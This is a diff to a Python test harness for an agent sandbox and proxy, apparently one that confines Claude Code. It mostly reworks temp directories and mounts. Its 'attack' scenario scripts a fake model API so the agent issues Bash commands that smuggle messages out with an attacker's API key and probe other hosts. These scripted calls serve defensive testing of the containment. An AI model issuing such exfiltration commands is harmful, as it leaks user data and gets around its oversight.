@@ -22,7 +22,6 @@ import socketserver
 import struct
 import subprocess
 import sys
-import tempfile
 import threading
 from pathlib import Path
 from typing import Any
@@ -36,6 +35,9 @@ from bot_bottle.sidecar.proxy.ca import CertificateAuthority
 from bot_bottle.sidecar.proxy.server import ProxyOptions, ProxyServer
 from bot_bottle.testing.anthropic_fake import AnthropicFake
 from bot_bottle.testing.model_api import Refuse, Say, Text, ToolUse, Truncate, Turn
+
+TEMPORARY = Path("/home/tmp")
+"""In the namespace's own tmpfs, so that nothing of the client's stays in the host's ``/tmp``."""
 
 DEADLINE_S = 120
 """A client that hangs has to fail, and the slowest scenario takes some 3 s."""
@@ -56,8 +58,21 @@ SCRIPTS: dict[str, list[Turn]] = {
     "attack": [
         Say((ToolUse("Bash", {"command": f"{SMUGGLE} {MESSAGES} > made.txt", "description": "ours"}),)),
         Say((Text(("for the attacker",)),)),
-        Say((ToolUse("Bash", {"command": f"{SMUGGLE} {MESSAGES}?api_key=key-of-an-attacker", "description": "x"}),)),
-        Say((ToolUse("Bash", {"command": f"{SMUGGLE} https://api.anthropic.com/v1/files", "description": "x"}),)),
+        Say(
+            (
+                ToolUse(
+                    "Bash",
+                    {"command": f"{SMUGGLE} {MESSAGES}?api_key=key-of-an-attacker", "description": "x"},
+                ),
+            )
+        ),
+        Say(
+            (
+                ToolUse(
+                    "Bash", {"command": f"{SMUGGLE} https://api.anthropic.com/v1/files", "description": "x"}
+                ),
+            )
+        ),
         Say((ToolUse("Bash", {"command": f"{SMUGGLE} https://example.com/", "description": "x"}),)),
         Say((Text(("All done, as asked.",)),)),
     ],
@@ -81,12 +96,12 @@ def main() -> None:
     with AnthropicFake(SCRIPTS[request["script"]]) as api:
         front = Relay(api) if request["front"] == "relay" else Proxy(api, plan, request["plan"]["host_env"])
         with front:
-            ca = Path(tempfile.mkdtemp()) / "ca.pem"
+            ca = TEMPORARY / "ca.pem"
             ca.write_text(front.ca_pem)
-            ca.parent.chmod(0o755)
             proxy = f"http://127.0.0.1:{front.port}"
             env = {
-                "PATH": "/usr/bin:/bin", "HOME": str(home), "TERM": "xterm-256color", "LANG": "C.UTF-8",
+                "PATH": "/usr/bin:/bin", "HOME": str(home), "TMPDIR": str(TEMPORARY), "LANG": "C.UTF-8",
+                "TERM": "xterm-256color", "CLAUDE_CODE_TMPDIR": str(TEMPORARY),
                 "HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "NO_PROXY": "localhost,127.0.0.1,::1",
                 "NODE_EXTRA_CA_CERTS": str(ca), **plan.env, **request["env"],
             }  # fmt: skip
@@ -104,16 +119,17 @@ def loopback_up() -> None:
 
 def make_home() -> Path:
     """An empty ``/home/node`` over the host's ``/home``, whose entries stay visible."""
-    kept = Path(tempfile.mkdtemp())
+    kept = Path("/mnt")
     subprocess.run(["mount", "--rbind", "/home", kept], check=True)
     subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/home"], check=True)
     for entry in kept.iterdir():
         if entry.is_dir() and entry.name != GUEST_HOME.name:
             Path("/home", entry.name).mkdir()
             subprocess.run(["mount", "--rbind", entry, f"/home/{entry.name}"], check=True)
-    home = Path(GUEST_HOME)
     Path(GUEST_WORKSPACE).mkdir(parents=True)
-    return home
+    TEMPORARY.mkdir()
+    TEMPORARY.chmod(0o1777)
+    return Path(GUEST_HOME)
 
 
 def write_files(plan: ProviderPlan) -> None:
